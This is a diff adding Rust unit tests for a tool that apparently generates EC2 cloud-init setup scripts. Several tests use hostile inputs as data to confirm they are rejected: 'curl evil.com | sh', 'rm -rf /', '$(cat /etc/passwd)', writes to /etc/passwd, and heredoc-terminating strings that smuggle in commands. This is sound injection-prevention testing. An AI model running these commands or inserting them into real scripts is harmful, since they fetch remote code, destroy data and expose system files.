             script.contains("groupadd -f docker"),
@@ -632,6 +1264,110 @@ mod tests {
         );
     }
 
+    #[test]
+    fn test_post_receive_hook_checks_out_branches_only() {
+        let profile = Profile::default_profile();
+        let script = generate_user_data(
+            &profile,
+            Some("myproject"),
+            "ubuntu",
+            None,
+            None,
+            DEFAULT_INIT_LOG_PATH,
+        )
+        .unwrap();
+
+        let hook_start = script.find("hooks/post-receive << 'HOOKEOF'").unwrap();
+        let hook_end = script[hook_start..].find("\nHOOKEOF\n").unwrap() + hook_start;
+        let hook = &script[hook_start..hook_end];
+
+        let heads = hook.find("refs/heads/*)").unwrap();
+        let no_checkout = hook.find("refs/for/*)").unwrap();
+        let checkout = hook.find("git checkout -f").unwrap();
+
+        // Checkout only happens in the refs/heads/ arm
+        assert!(heads < checkout && checkout < no_checkout);
+        assert_eq!(hook.matches("git checkout").count(), 1);
+    }
+
+    #[test]
+    fn test_post_receive_hook_runs_on_push_in_worktree() {
+        let mut profile = Profile::default_profile();
+        profile.hooks.on_push = Some("cargo build --release && echo 'built'".to_string());
+        profile.allow_raw_user_data = true;
+        let script = generate_user_data(
+            &profile,
+            Some("myproject"),
+            "dev",
+            None,
+            None,
+            DEFAULT_INIT_LOG_PATH,
+        )
+        .unwrap();
+
+        let hook_start = script.find("hooks/post-receive << 'HOOKEOF'").unwrap();
+        let hook_end = script[hook_start..].find("\nHOOKEOF\n").unwrap() + hook_start;
+        let hook = &script[hook_start..hook_end];
+
+        // Runs after the checkout, inside the refs/heads/* arm, from the user's work tree
+        let checkout = hook.find("git checkout -f").unwrap();
+        let on_push = hook
+            .find(
+                r#"(cd /home/dev/work/myproject && unset GIT_DIR && bash -lc 'cargo build --release && echo '\''built'\''')"#,
+            )
+            .unwrap();
+        let arm_end = hook[checkout..].find(";;").unwrap() + checkout;
+        assert!(checkout < on_push && on_push < arm_end);
+
+        // The hook runs as the pushing user, so the command isn't run via sudo or su
+        assert!(!hook.contains("sudo") && !hook.contains("su -"));
+        assert!(script.contains("chown -R dev:dev /home/dev/repos/myproject.git"));
+    }
+
+    #[test]
+    fn test_post_receive_hook_without_on_push() {
+        let profile = Profile::default_profile();
+        let script = generate_user_data(
+            &profile,
+            Some("myproject"),
+            "ubuntu",
+            None,
+            None,
+            DEFAULT_INIT_LOG_PATH,
+        )
+        .unwrap();
+        assert!(!script.contains("on_push"));
+
+        // A newline in the command could end the heredoc early
+        let mut profile = Profile::default_profile();
+        profile.hooks.on_push = Some("make\nHOOKEOF\nrm -rf ~".to_string());
+        profile.allow_raw_user_data = true;
+        assert!(generate_user_data(
+            &profile,
+            Some("myproject"),
+            "ubuntu",
+            None,
+            None,
+            DEFAULT_INIT_LOG_PATH
+        )
+        .is_err());
+
+        // Without the opt-in, shell metacharacters never reach the hook
+        let mut profile = Profile::default_profile();
+        profile.hooks.on_push = Some("make && curl $URL | sh".to_string());
+        assert!(matches!(
+            generate_user_data(
+                &profile,
+                Some("myproject"),
+                "ubuntu",
+                None,
+                None,
+                DEFAULT_INIT_LOG_PATH
+            ),
+            Err(Ec2CliError::ProfileValidation(_))
+        ));
+    }
+
     #[test]
     fn test_generate_with_git_user_config() {
         let profile = Profile::default_profile();
@@ -645,6 +1381,7 @@ mod tests {
             "ubuntu",
             None,
             Some(&git_config),
+            DEFAULT_INIT_LOG_PATH,
         )
         .unwrap();
 
@@ -666,6 +1403,7 @@ mod tests {
             "ubuntu",
             None,
             Some(&git_config),
+            DEFAULT_INIT_LOG_PATH,
         )
         .unwrap();
 
@@ -686,6 +1424,7 @@ mod tests {
             "ubuntu",
             None,
             Some(&git_config),
+            DEFAULT_INIT_LOG_PATH,
         )
         .unwrap();
 
@@ -696,8 +1435,15 @@ mod tests {
     #[test]
     fn test_generate_without_git_config() {
         let profile = Profile::default_profile();
-        let script =
-            generate_user_data(&profile, Some("test-project"), "ubuntu", None, None).unwrap();
+        let script = generate_user_data(
+            &profile,
+            Some("test-project"),
+            "ubuntu",
+            None,
+            None,
+            DEFAULT_INIT_LOG_PATH,
+        )
+        .unwrap();
 
         assert!(!script.contains("Configuring git user identity"));
     }
@@ -715,6 +1461,7 @@ mod tests {
             "ubuntu",
             None,
             Some(&git_config),
+            DEFAULT_INIT_LOG_PATH,
         );
 
         assert!(result.is_err());
@@ -743,10 +1490,329 @@ mod tests {
         let mut profile = Profile::default_profile();
         profile.packages.system = vec!["gcc; rm -rf /".to_string()];
 
-        let result = generate_user_data(&profile, None, "ubuntu", None, None);
+        let result =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH);
+        assert!(result.is_err());
+    }
+
+    #[test]
+    fn test_arch_specific_system_packages() {
+        let mut profile = Profile::default_profile();
+        profile.packages.system = vec!["git".to_string()];
+        profile.packages.system_arm64 = vec!["arm-only-pkg".to_string()];
+        profile.packages.system_x86_64 = vec!["x86-only-pkg".to_string()];
+
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        assert!(script.contains("apt-get install -y git x86-only-pkg\n"));
+        assert!(!script.contains("arm-only-pkg"));
+
+        profile.instance.ami.architecture = "arm64".to_string();
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        assert!(script.contains("apt-get install -y git arm-only-pkg\n"));
+        assert!(!script.contains("x86-only-pkg"));
+    }
+
+    #[test]
+    fn test_apt_repositories_added_before_update() {
+        let mut profile = Profile::default_profile();
+        profile.packages.apt_repositories = vec![
+            AptRepo {
+                uri: "ppa:deadsnakes/ppa".to_string(),
+                ..Default::default()
+            },
+            AptRepo {
+                uri: "https://apt.corp.example/ubuntu".to_string(),
+                suite: "jammy".to_string(),
+                components: vec!["main".to_string(), "extra".to_string()],
+                key_url: Some("https://apt.corp.example/key.asc".to_string()),
+            },
+        ];
+
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        assert!(script.contains("add-apt-repository -y ppa:deadsnakes/ppa\n"));
+        assert!(script.contains(
+            "curl -fsSL https://apt.corp.example/key.asc | gpg --batch --yes --dearmor -o /etc/apt/keyrings/ec2-cli-1.gpg\n"
+        ));
+        let source = "echo 'deb [signed-by=/etc/apt/keyrings/ec2-cli-1.gpg] https://apt.corp.example/ubuntu jammy main extra' > /etc/apt/sources.list.d/ec2-cli-1.list\n";
+        assert!(script.contains(source));
+
+        let update_pos = script.find("apt-get update").unwrap();
+        assert!(script.find("add-apt-repository").unwrap() < update_pos);
+        assert!(script.find(source).unwrap() < update_pos);
+    }
+
+    #[test]
+    fn test_apt_repository_validation() {
+        let repo = |uri: &str, key_url: Option<&str>| AptRepo {
+            uri: uri.to_string(),
+            suite: "stable".to_string(),
+            components: vec!["main".to_string()],
+            key_url: key_url.map(String::from),
+        };
+
+        // Signing keys must come over HTTPS
+        assert!(apt_repository_commands(&[repo(
+            "https://apt.example.com",
+            Some("http://apt.example.com/key.asc")
+        )])
+        .is_err());
+        assert!(apt_repository_commands(&[repo(
+            "https://apt.example.com",
+            Some("https://apt.example.com/key.asc")
+        )])
+        .is_ok());
+
+        assert!(apt_repository_commands(&[repo("ftp://apt.example.com", None)]).is_err());
+        assert!(apt_repository_commands(&[repo("https://apt.example.com; reboot", None)]).is_err());
+        assert!(apt_repository_commands(&[repo("ppa:owner/name", Some("https://k"))]).is_err());
+
+        let mut bad_suite = repo("https://apt.example.com", None);
+        bad_suite.suite = "stable' >> /etc/passwd".to_string();
+        assert!(apt_repository_commands(&[bad_suite]).is_err());
+
+        // Only PPAs can leave out the suite
+        for suite in ["", "  ", "stable main"] {
+            let mut no_suite = repo("https://apt.example.com", None);
+            no_suite.suite = suite.to_string();
+            assert!(apt_repository_commands(&[no_suite]).is_err());
+
+            let mut ppa = repo("ppa:owner/name", None);
+            ppa.suite = suite.to_string();
+            assert!(apt_repository_commands(&[ppa]).is_ok());
+        }
+
+        // A missing suite deserializes as empty
+        let missing: AptRepo =
+            serde_json::from_str(r#"{"uri": "https://apt.example.com"}"#).unwrap();
+        assert!(apt_repository_commands(&[missing]).is_err());
+    }
+
+    #[test]
+    fn test_shell_injection_in_arch_packages() {
+        // Extras for the other architecture are validated too
+        let mut profile = Profile::default_profile();
+        profile.packages.system_arm64 = vec!["gcc && reboot".to_string()];
+
+        let result =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH);
         assert!(result.is_err());
     }
 
+    #[test]
+    fn test_cargo_install_plain_name() {
+        let mut profile = Profile::default_profile();
+        profile.packages.cargo = vec![CargoPackage::from("cargo-watch")];
+
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        assert!(script.contains("cargo install cargo-watch\n"));
+    }
+
+    #[test]
+    fn test_cargo_install_locked_and_features() {
+        let mut profile = Profile::default_profile();
+        profile.packages.cargo = vec![CargoPackage::Spec(CargoPackageSpec {
+            name: "cargo-nextest".to_string(),
+            version: Some("0.9".to_string()),
+            features: vec!["default-no-update".to_string(), "self-update".to_string()],
+            locked: true,
+            ..Default::default()
+        })];
+
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        assert!(script.contains(
+            "cargo install --version 0.9 --features default-no-update,self-update --locked cargo-nextest\n"
+        ));
+    }
+
+    #[test]
+    fn test_cargo_install_from_git_ref() {
+        let mut profile = Profile::default_profile();
+        profile.packages.cargo = vec![
+            CargoPackage::Spec(CargoPackageSpec {
+                name: "internal-tool".to_string(),
+                git: Some("https://github.com/acme/internal-tool".to_string()),
+                tag: Some("v1.2.0".to_string()),
+                locked: true,
+                ..Default::default()
+            }),
+            CargoPackage::Spec(CargoPackageSpec {
+                name: "other".to_string(),
+                git: Some("git@github.com:acme/other.git".to_string()),
+                rev: Some("3f2a9c1".to_string()),
+                ..Default::default()
+            }),
+        ];
+
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        assert!(script.contains(
+            "cargo install --git https://github.com/acme/internal-tool --tag v1.2.0 --locked internal-tool\n"
+        ));
+        assert!(script
+            .contains("cargo install --git git@github.com:acme/other.git --rev 3f2a9c1 other\n"));
+        // Without registry tokens the AWS CLI isn't needed
+        assert!(!script.contains("aws-cli"));
+    }
+
+    #[test]
+    fn test_cargo_git_ref_validation() {
+        let spec = |git: Option<&str>, rev: Option<&str>, branch: Option<&str>| {
+            CargoPackage::Spec(CargoPackageSpec {
+                name: "tool".to_string(),
+                git: git.map(String::from),
+                rev: rev.map(String::from),
+                branch: branch.map(String::from),
+                ..Default::default()
+            })
+        };
+        let url = Some("https://github.com/acme/tool");
+
+        assert!(cargo_install_command(&spec(url, Some("abc123"), None)).is_ok());
+        // Only one ref, and only with git
+        assert!(cargo_install_command(&spec(url, Some("abc123"), Some("main"))).is_err());
+        assert!(cargo_install_command(&spec(None, None, Some("main"))).is_err());
+        // Refs and URLs are shell-checked
+        assert!(cargo_install_command(&spec(url, Some("main;reboot"), None)).is_err());
+        assert!(cargo_install_command(&spec(url, Some("--config=x"), None)).is_err());
+        assert!(cargo_install_command(&spec(Some("/tmp/repo"), None, None)).is_err());
+        assert!(cargo_install_command(&spec(Some("https://x/$(id)"), None, None)).is_err());
+    }
+
+    #[test]
+    fn test_cargo_install_from_registry() {
+        let pkg = CargoPackage::Spec(CargoPackageSpec {
+            name: "acme-cli".to_string(),
+            registry: Some("acme-internal".to_string()),
+            index: Some("sparse+https://cargo.acme.dev/index/".to_string()),
+            token_parameter: Some("/acme/cargo-token".to_string()),
+            ..Default::default()
+        });
+
+        assert_eq!(
+            cargo_install_command(&pkg).unwrap(),
+            "CARGO_REGISTRIES_ACME_INTERNAL_INDEX=sparse+https://cargo.acme.dev/index/ \
+             CARGO_REGISTRIES_ACME_INTERNAL_TOKEN=\"$(aws ssm get-parameter \
+             --name /acme/cargo-token --with-decryption --query Parameter.Value \
+             --output text)\" cargo install --registry acme-internal acme-cli"
+        );
+
+        // Parameter names can't carry shell syntax
+        let pkg = CargoPackage::Spec(CargoPackageSpec {
+            name: "acme-cli".to_string(),
+            registry: Some("acme".to_string()),
+            token_parameter: Some("/x)\"; reboot; \"".to_string()),
+            ..Default::default()
+        });
+        assert!(cargo_install_command(&pkg).is_err());
+    }
+
+    #[test]
+    fn test_registry_token_never_in_user_data() {
+        let mut profile = Profile::default_profile();
+        profile.packages.cargo = vec![CargoPackage::Spec(CargoPackageSpec {
+            name: "acme-cli".to_string(),
+            registry: Some("acme".to_string()),
+            token_parameter: Some("/acme/cargo-token".to_string()),
+            ..Default::default()
+        })];
+
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        // The instance user fetches the token when cargo runs, in its region
+        let region = script.find("export AWS_DEFAULT_REGION=").unwrap();
+        let fetch = script
+            .find("CARGO_REGISTRIES_ACME_TOKEN=\"$(aws ssm get-parameter --name /acme/cargo-token")
+            .unwrap();
+        let su = script
+            .find("su - ubuntu -c '\nsource ~/.cargo/env")
+            .unwrap();
+        assert!(su < region && region < fetch);
+        assert!(script.contains("snap install aws-cli --classic"));
+
+        // token_env, which embedded the token itself, is rejected
+        profile.packages.cargo = vec![CargoPackage::Spec(CargoPackageSpec {
+            name: "acme-cli".to_string(),
+            registry: Some("acme".to_string()),
+            token_env: Some("ACME_CARGO_TOKEN".to_string()),
+            ..Default::default()
+        })];
+        let err = generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+            .unwrap_err();
+        assert!(err.to_string().contains("token_parameter"));
+    }
+
+    #[test]
+    fn test_shell_injection_in_cargo_features() {
+        let mut profile = Profile::default_profile();
+        profile.packages.cargo = vec![CargoPackage::Spec(CargoPackageSpec {
+            name: "tool".to_string(),
+            features: vec!["a;reboot".to_string()],
+            ..Default::default()
+        })];
+
+        let result =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH);
+        assert!(result.is_err());
+    }
+
+    #[test]
+    fn test_environment_passthrough_only_forwards_listed_set_vars() {
+        let mut profile = Profile::default_profile();
+        profile
+            .environment
+            .insert("EDITOR".to_string(), "vim".to_string());
+        profile
+            .environment
+            .insert("RUST_LOG".to_string(), "info".to_string());
+        profile.environment_passthrough = vec![
+            "RUST_LOG".to_string(),
+            "AWS_REGION".to_string(),
+            "NOT_SET".to_string(),
+            "EMPTY".to_string(),
+        ];
+        let local = |name: &str| match name {
+            "RUST_LOG" => Some("debug".to_string()),
+            "AWS_REGION" => Some("eu-west-1".to_string()),
+            "EMPTY" => Some(String::new()),
+            "HOME" => Some("/home/dev".to_string()),
+            _ => None,
+        };
+
+        let environment = instance_environment(&profile, local).unwrap();
+        let pairs: Vec<_> = environment
+            .iter()
+            .map(|(k, v)| (k.as_str(), v.as_str()))
+            .collect();
+        assert_eq!(
+            pairs,
+            vec![
+                ("AWS_REGION", "eu-west-1"),
+                ("EDITOR", "vim"),
+                ("RUST_LOG", "debug"),
+            ]
+        );
+
+        // Passthrough values are validated without being echoed
+        let err = instance_environment(&profile, |_| Some("$(whoami)".to_string())).unwrap_err();
+        assert!(!err.to_string().contains("whoami"));
+
+        // Keys are validated even when unset
+        profile.environment_passthrough = vec!["BAD-KEY".to_string()];
+        assert!(instance_environment(&profile, |_| None).is_err());
+    }
+
     #[test]
     fn test_shell_injection_in_env_vars() {
         let mut profile = Profile::default_profile();
@@ -754,14 +1820,83 @@ mod tests {
             .environment
             .insert("MALICIOUS".to_string(), "$(cat /etc/passwd)".to_string());
 
-        let result = generate_user_data(&profile, None, "ubuntu", None, None);
+        let result =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH);
         assert!(result.is_err());
     }
 
+    #[test]
+    fn test_system_settings_only_when_configured() {
+        let profile = Profile::default_profile();
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        assert!(!script.contains("timedatectl"));
+        assert!(!script.contains("locale-gen"));
+
+        let mut profile = Profile::default_profile();
+        profile.system.timezone = Some("America/New_York".to_string());
+        profile.system.locale = Some("en_US.UTF-8".to_string());
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        assert!(script.contains("timedatectl set-timezone America/New_York"));
+        assert!(script.contains("locale-gen en_US.UTF-8\n"));
+        assert!(script.contains("update-locale LANG=en_US.UTF-8\n"));
+
+        // Applied before the slow package installation
+        let timezone_pos = script.find("timedatectl").unwrap();
+        let apt_pos = script.find("apt-get update").unwrap();
+        assert!(timezone_pos < apt_pos);
+    }
+
+    #[test]
+    fn test_swapfile_only_when_configured() {
+        let profile = Profile::default_profile();
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        assert!(!script.contains("swapfile"));
+
+        let mut profile = Profile::default_profile();
+        profile.system.swap_gb = Some(8);
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        assert!(script.contains("fallocate -l 8G /swapfile\n"));
+        assert!(script.contains("mkswap /swapfile\n"));
+        assert!(script.contains("swapon /swapfile\n"));
+        assert!(script.contains("echo '/swapfile none swap sw 0 0' >> /etc/fstab\n"));
+
+        // Enabled before the packages are built
+        let swap_pos = script.find("swapon").unwrap();
+        let apt_pos = script.find("apt-get update").unwrap();
+        assert!(swap_pos < apt_pos);
+    }
+
+    #[test]
+    fn test_invalid_system_settings_rejected() {
+        let mut profile = Profile::default_profile();
+        profile.system.timezone = Some("UTC; curl evil.com | sh".to_string());
+        assert!(
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .is_err()
+        );
+
+        let mut profile = Profile::default_profile();
+        profile.system.locale = Some("en_US.UTF-8 && reboot".to_string());
+        assert!(
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .is_err()
+        );
+    }
+
     #[test]
     fn test_agentfs_installed_by_default() {
         let profile = Profile::default_profile();
-        let script = generate_user_data(&profile, None, "ubuntu", None, None).unwrap();
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
 
         // Check AppArmor configuration
         assert!(script.contains("/etc/sysctl.d/99-agentfs.conf"));
@@ -772,4 +1907,234 @@ mod tests {
         assert!(script.contains("Installing AgentFS"));
         assert!(script.contains("agentfs.ai/install"));
     }
+
+    #[test]
+    fn test_agentfs_sysctl_guarded_by_existence_check() {
+        let profile = Profile::default_profile();
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+
+        let guard = script
+            .find("if test -e /proc/sys/kernel/apparmor_restrict_unprivileged_userns; then")
+            .unwrap();
+        let write = script.find("cat > /etc/sysctl.d/99-agentfs.conf").unwrap();
+        let reload = script
+            .find("sysctl -p /etc/sysctl.d/99-agentfs.conf")
+            .unwrap();
+        let end = script[reload..].find("fi\n").unwrap() + reload;
+
+        assert!(guard < write);
+        assert!(write < reload);
+        assert!(reload < end);
+    }
+
+    #[test]
+    fn test_user_data_extra_runs_before_ready_marker() {
+        let mut profile = Profile::default_profile();
+        profile.user_data_extra = Some("echo $(hostname) > /etc/motd".to_string());
+        profile.allow_raw_user_data = true;
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+
+        // Appended verbatim, skipping shell-metacharacter validation
+        let extra = script.find("echo $(hostname) > /etc/motd\n").unwrap();
+        let marker = script.find("touch /home/ubuntu/.ec2-cli-ready").unwrap();
+        assert!(extra < marker);
+        assert!(script.ends_with("touch /home/ubuntu/.ec2-cli-ready\n"));
+    }
+
+    #[test]
+    fn test_user_data_extra_requires_allow_flag() {
+        let mut profile = Profile::default_profile();
+        profile.user_data_extra = Some("echo extra".to_string());
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        assert!(!script.contains("echo extra"));
+        assert!(!script.contains("user_data_extra"));
+
+        // The flag alone adds nothing
+        let mut profile = Profile::default_profile();
+        profile.allow_raw_user_data = true;
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        assert!(!script.contains("user_data_extra"));
+    }
+
+    #[test]
+    fn test_agentfs_disabled() {
+        let mut profile = Profile::default_profile();
+        profile.tools.agentfs = false;
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+
+        assert!(!script.contains("99-agentfs.conf"));
+        assert!(!script.contains("agentfs.ai/install"));
+    }
+
+    #[test]
+    fn test_dotfiles_only_when_configured() {
+        let profile = Profile::default_profile();
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        assert!(!script.contains(".dotfiles"));
+
+        let mut profile = Profile::default_profile();
+        profile.dotfiles = Some(DotfilesConfig {
+            repo: "https://github.com/me/dotfiles".to_string(),
+            install_command: None,
+        });
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        assert!(script.contains(
+            "su - ubuntu -c 'git clone --depth 1 https://github.com/me/dotfiles ~/.dotfiles' || echo"
+        ));
+        assert!(!script.contains("cd ~/.dotfiles"));
+
+        profile.dotfiles.as_mut().unwrap().install_command = Some("./install.sh --all".to_string());
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        let clone = script
+            .find("if su - ubuntu -c 'git clone --depth 1 https://github.com/me/dotfiles ~/.dotfiles'; then\n")
+            .unwrap();
+        let install = script
+            .find("su - ubuntu -c 'cd ~/.dotfiles && ./install.sh --all'")
+            .unwrap();
+        let marker = script.find("touch /home/ubuntu/.ec2-cli-ready").unwrap();
+        assert!(clone < install);
+        assert!(install < marker);
+    }
+
+    #[test]
+    fn test_dotfiles_validation() {
+        let dotfiles = |repo: &str, install_command: Option<&str>| DotfilesConfig {
+            repo: repo.to_string(),
+            install_command: install_command.map(String::from),
+        };
+
+        // Only https:// repos
+        for repo in [
+            "git@github.com:me/dotfiles.git",
+            "ssh://git@github.com/me/dotfiles",
+            "http://github.com/me/dotfiles",
+            "git://github.com/me/dotfiles",
+        ] {
+            assert!(
+                dotfiles_commands(&dotfiles(repo, None), "ubuntu").is_err(),
+                "{}",
+                repo
+            );
+        }
+
+        let repo = "https://github.com/me/dotfiles";
+        assert!(dotfiles_commands(&dotfiles(repo, None), "ubuntu").is_ok());
+        assert!(dotfiles_commands(&dotfiles("https://x/$(id)", None), "ubuntu").is_err());
+        assert!(
+            dotfiles_commands(&dotfiles(repo, Some("./install.sh; reboot")), "ubuntu").is_err()
+        );
+        assert!(dotfiles_commands(&dotfiles(repo, Some("")), "ubuntu").is_err());
+    }
+
+    #[test]
+    fn test_docker_only_when_configured() {
+        let profile = Profile::default_profile();
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        assert!(!script.contains("compose.yaml"));
+        assert!(!script.contains("docker compose"));
+        assert!(!script.contains("docker run"));
+
+        let mut profile = Profile::default_profile();
+        profile.docker = Some(DockerConfig {
+            compose_file: Some("services:\n  db:\n    image: postgres:16".to_string()),
+            run: vec!["-d -p 6379:6379 redis:7".to_string()],
+        });
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+
+        assert!(script.contains(
+            "cat > /home/ubuntu/work/compose.yaml << 'COMPOSEEOF'\nservices:\n  db:\n    image: postgres:16\nCOMPOSEEOF\n"
+        ));
+        let docker_installed = script.find("systemctl start docker").unwrap();
+        let group = script.find("usermod -aG docker ubuntu").unwrap();
+        let compose_up = script
+            .find("docker compose -f /home/ubuntu/work/compose.yaml up -d")
+            .unwrap();
+        let run = script
+            .find("docker run -d -p 6379:6379 redis:7 ||")
+            .unwrap();
+        assert!(group < docker_installed);
+        assert!(docker_installed < compose_up);
+        assert!(compose_up < run);
+
+        // Without a compose file, only the containers are started
+        profile.docker.as_mut().unwrap().compose_file = None;
+        let script =
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+                .unwrap();
+        assert!(!script.contains("docker compose"));
+        assert!(script.contains("docker run -d -p 6379:6379 redis:7"));
+    }
+
+    #[test]
+    fn test_docker_validation() {
+        let script_for = |docker: DockerConfig| {
+            let mut profile = Profile::default_profile();
+            profile.docker = Some(docker);
+            generate_user_data(&profile, None, "ubuntu", None, None, DEFAULT_INIT_LOG_PATH)
+        };
+
+        assert!(script_for(DockerConfig {
+            run: vec!["-d nginx; rm -rf /".to_string()],
+            ..Default::default()
+        })
+        .is_err());
+        // Containers must be detached or the setup script never finishes
+        assert!(script_for(DockerConfig {
+            run: vec!["-p 6379:6379 redis:7".to_string()],
+            ..Default::default()
+        })
+        .is_err());
+        assert!(script_for(DockerConfig {
+            run: vec!["--detach=false redis:7".to_string()],
+            ..Default::default()
+        })
+        .is_err());
+        for detached in [
+            "-d redis:7",
+            "-itd redis:7",
+            "--detach redis:7",
+            "--detach=true redis:7",
+        ] {
+            assert!(script_for(DockerConfig {
+                run: vec![detached.to_string()],
+                ..Default::default()
+            })
+            .is_ok());
+        }
+        assert!(script_for(DockerConfig {
+            compose_file: Some("x".repeat(MAX_COMPOSE_FILE_BYTES + 1)),
+            ..Default::default()
+        })
+        .is_err());
+        assert!(script_for(DockerConfig {
+            compose_file: Some("services: {}\nCOMPOSEEOF\nrm -rf /\n".to_string()),
+            ..Default::default()
+        })
+        .is_err());
+        assert!(script_for(DockerConfig {
+            compose_file: Some(" \n".to_string()),
+            ..Default::default()
+        })
+        .is_err());
+    }
 }